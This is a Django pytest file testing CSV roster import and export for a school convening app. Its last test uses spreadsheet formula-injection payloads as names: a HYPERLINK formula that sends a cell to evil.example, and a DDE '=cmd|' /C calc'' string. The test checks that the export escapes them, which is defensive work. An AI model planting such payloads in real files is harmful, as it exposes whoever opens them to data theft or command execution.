from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command

from convenings.models import Registration
from people.models import Participant, School
from people.roster import COLUMNS, RosterError, decode, export_roster, import_roster

pytestmark = pytest.mark.django_db

GOOD = """name,email,job role,school,district,region,team,interests,convening role
Ana Flores,ana@example.org,Principal,Lakeside Elementary,Delta USD,Delta Region,Lakeside SLT,Parent Engagement; Professional Learning,participant
Ben Ito,ben@example.org,teacher,Lakeside Elementary,Delta USD,Delta Region,Lakeside SLT,Best Practices in Math,Participant
Cara Diaz,cara@example.org,Coach,,Delta USD,Delta Region,,Coaches,moderator
"""

BAD = """name,email,job role,school,district,region,team,interests,convening role
Ana Flores,ana@example.org,Principal,Lakeside Elementary,Delta USD,Delta Region,Lakeside SLT,Parent Engagement,participant
,nobody@example.org,Teacher,,,,,,participant
Dan Wu,not-an-email,Astronaut,,,,,Underwater Basket Weaving,boss
Eve Ng,ana@example.org,Teacher,,,,,,participant
"""


def test_good_file_imports_everyone(demo) -> None:
    result = import_roster(demo.convening, GOOD)
    assert (result.created, result.updated) == (3, 0)
    ana = Participant.objects.get(user__email="ana@example.org")
    assert ana.school.name == "Lakeside Elementary" and ana.team.name == "Lakeside SLT"
    assert ana.region.name == "Delta Region"
    assert sorted(ana.interests.values_list("name", flat=True)) == ["Parent Engagement", "Professional Learning"]
    assert Registration.objects.get(convening=demo.convening, participant__user__email="cara@example.org").role == "moderator"


def test_file_with_bad_rows_imports_nothing_and_reports_every_error(demo) -> None:
    before = Participant.objects.count()
    with pytest.raises(RosterError) as caught:
        import_roster(demo.convening, BAD)
    errors = caught.value.errors
    assert Participant.objects.count() == before
    assert any(e.startswith("line 3: name is empty") for e in errors)
    line4 = [e for e in errors if e.startswith("line 4:")]
    assert len(line4) == 4  # email, job role, convening role, interest
    assert any("already on line 2" in e for e in errors if e.startswith("line 5:"))


def test_missing_columns_are_reported() -> None:
    with pytest.raises(RosterError, match="missing column"):
        import_roster(None, "name,email\nA,a@example.org\n")  # type: ignore[arg-type]


def test_export_round_trips(demo) -> None:
    exported = export_roster(demo.convening)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert list(rows[0].keys()) == COLUMNS
    assert len(rows) == demo.convening.registrations.count()
    result = import_roster(demo.convening, exported)
    assert result.created == 0 and result.updated == len(rows)
    assert export_roster(demo.convening) == exported


def test_management_commands(demo, tmp_path, capsys) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(BAD)
    with pytest.raises(CommandError, match="Nothing imported"):
        call_command("import_roster", demo.convening.slug, str(bad))
    good = tmp_path / "good.csv"
    good.write_text(GOOD)
    call_command("import_roster", demo.convening.slug, str(good))
    call_command("export_roster", demo.convening.slug)
    assert "ana@example.org" in capsys.readouterr().out


HEADER = "name,email,job role,school,district,region,team,interests,convening role\n"


def test_line_numbers_count_blank_lines_and_multi_line_cells(demo) -> None:
    text = (HEADER
            + "\n"                                                             # line 2: blank
            + 'Ana Flores,ana@example.org,Principal,"Lakeside\nElementary",Delta USD,Delta Region,,,\n'  # 3-4
            + ",,,,,,,,\n"                                                     # line 5: a spreadsheet's empty row
            + "Ben Ito,not-an-email,Teacher,,,,,,\n")                          # line 6
    with pytest.raises(RosterError) as caught:
        import_roster(demo.convening, text)
    assert caught.value.errors == ["line 6: email 'not-an-email' is not a valid address"]


def test_values_too_long_for_the_database_are_reported_not_crashed_on(demo) -> None:
    long_name = "A" * 100 + " " + "B" * 60
    long_email = "x" * 245 + "@example.org"
    long_school = "S" * 161
    text = (HEADER + f"{long_name},ok@example.org,Teacher,,,,,,\n"
            + f"Cy Long,{long_email},Teacher,,,,,,\n"
            + f"Di Short,di@example.org,Teacher,{long_school},Delta USD,Delta Region,,,\n")
    before = Participant.objects.count()
    with pytest.raises(RosterError) as caught:
        import_roster(demo.convening, text)
    errors = caught.value.errors
    assert errors[0] == "line 2: name is 161 characters long; at most 150 fit"
    assert any(e.startswith("line 3: email is 257 characters long; at most 254 fit") for e in errors)
    assert "line 4: school is 161 characters long; at most 160 fit" in errors
    assert Participant.objects.count() == before


def test_an_email_too_long_for_a_new_username_is_reported(demo) -> None:
    email = "y" * 140 + "@example.org"  # a valid address, but 152 characters: no username that long
    with pytest.raises(RosterError, match=r"line 2: email is 152 characters long, too long to be the new account's username"):
        import_roster(demo.convening, HEADER + f"Yu Long,{email},Teacher,,,,,,\n")


def test_a_username_already_taken_by_another_account_is_reported(demo) -> None:
    get_user_model().objects.create_user("gil@example.org", email="gil.old@example.org")
    text = HEADER + "Ana Flores,ana@example.org,Principal,,,,,,\nGil Ortiz,gil@example.org,Teacher,,,,,,\n"
    with pytest.raises(RosterError) as caught:
        import_roster(demo.convening, text)
    assert caught.value.errors == ["line 3: the username gil@example.org already belongs to an account with another "
                                   "email; give that account this email, or use another address"]
    assert not Participant.objects.filter(user__email="ana@example.org").exists()


def test_a_region_without_a_district_is_an_error(demo) -> None:
    with pytest.raises(RosterError, match="line 2: a region needs a district"):
        import_roster(demo.convening, HEADER + "Ana Flores,ana@example.org,Principal,,,Delta Region,,,\n")


def test_a_row_with_more_cells_than_the_header_is_reported(demo) -> None:
    text = HEADER + "Ana Flores,ana@example.org,Principal,Lakeside, North,Delta USD,Delta Region,,,\n"
    with pytest.raises(RosterError, match=r"line 2: 10 cells but the header has 9; put a value that contains a comma"):
        import_roster(demo.convening, text)


def test_a_file_that_is_not_utf8_is_reported_clearly(demo, tmp_path) -> None:
    latin1 = (HEADER + "Ana Flores,ana@example.org,Principal,,,,,,\nJosé Núñez,jose@example.org,Teacher,,,,,,\n")
    with pytest.raises(RosterError, match=r'line 3: the file is not UTF-8 text .*save it as "CSV UTF-8"'):
        decode(latin1.encode("latin-1"))
    assert decode(latin1.encode("utf-8-sig")).startswith("name,email")
    path = tmp_path / "latin1.csv"
    path.write_bytes(latin1.encode("latin-1"))
    with pytest.raises(CommandError, match="Nothing imported:\nline 3: the file is not UTF-8"):
        call_command("import_roster", demo.convening.slug, str(path))


FORMULA_NAMES = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")": "", "+Ana": "Flores", "-Ben": "Ito",
                 "@Cara": "Diaz"}


def test_formula_names_are_exported_as_text_and_import_back_as_themselves(client, demo, capsys) -> None:
    """The admin's roster download and the export_roster command: a spreadsheet shows such
    names as text, and the admin's upload of that very file keeps every name as it was."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from convenings.csv_cells import FORMULA_START

    people = Participant.objects.filter(registrations__convening=demo.convening).select_related("user", "school")
    for person, (first, last) in zip(people.order_by("pk"), FORMULA_NAMES.items()):
        get_user_model().objects.filter(pk=person.user_id).update(first_name=first, last_name=last)
    school = people.exclude(school=None).first().school
    school.name = "=cmd|' /C calc'!A0"
    school.save()
    client.force_login(get_user_model().objects.get(username="organizer"))
    url = reverse("admin:convenings_convening_export_roster", args=[demo.convening.pk])

    exported = client.get(url).content.decode()
    call_command("export_roster", demo.convening.slug)
    assert capsys.readouterr().out == exported  # the command writes the same file
    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    for first, last in FORMULA_NAMES.items():
        assert "'" + f"{first} {last}".strip() in cells
    assert "'=cmd|' /C calc'!A0" in cells

    upload = reverse("admin:convenings_convening_import_roster", args=[demo.convening.pk])
    answer = client.post(upload, {"csv_file": SimpleUploadedFile("roster.csv", exported.encode())})
    assert answer.status_code == 302, answer.content.decode()
    names = set(get_user_model().objects.values_list("first_name", "last_name"))
    assert set(FORMULA_NAMES.items()) <= names
    assert not get_user_model().objects.filter(first_name__startswith="'").exists()
    school.refresh_from_db()
    assert school.name == "=cmd|' /C calc'!A0" and not School.objects.filter(name__startswith="'").exists()
    assert client.get(url).content.decode() == exported
